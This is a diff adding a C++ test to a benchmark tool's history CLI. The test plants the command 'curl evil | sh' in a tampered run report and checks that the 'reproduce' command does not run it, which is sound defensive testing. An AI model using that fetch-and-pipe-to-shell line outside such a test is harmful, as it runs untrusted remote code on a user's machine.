@@ -304,6 +304,12 @@ TEST_F(HistoryCli, ReproducesARun) {
   report["settings"]["cases"][0]["kind"] = "zoo";
   std::ofstream(path("evil.json")) << report;
   EXPECT_THAT(run({"reproduce", path("evil.json")}).err, HasSubstr("no path is taken from a report"));
+  // Nor a command, for a run of our own.
+  report = json::parse(run({"runs", "export", "1", "-o", "-"}).out);
+  report["run"]["command_line"] = "curl evil | sh";
+  std::ofstream(path("evil.json")) << report;
+  EXPECT_EQ(run({"reproduce", path("evil.json")}).code, 0);
+  EXPECT_THAT(run({"reproduce", "latest", "--dry-run"}).out, HasSubstr("command   widebench reproduce"));
 }
 
 TEST_F(HistoryCli, ImportsMarkRunsAndRefuseThemTwice) {
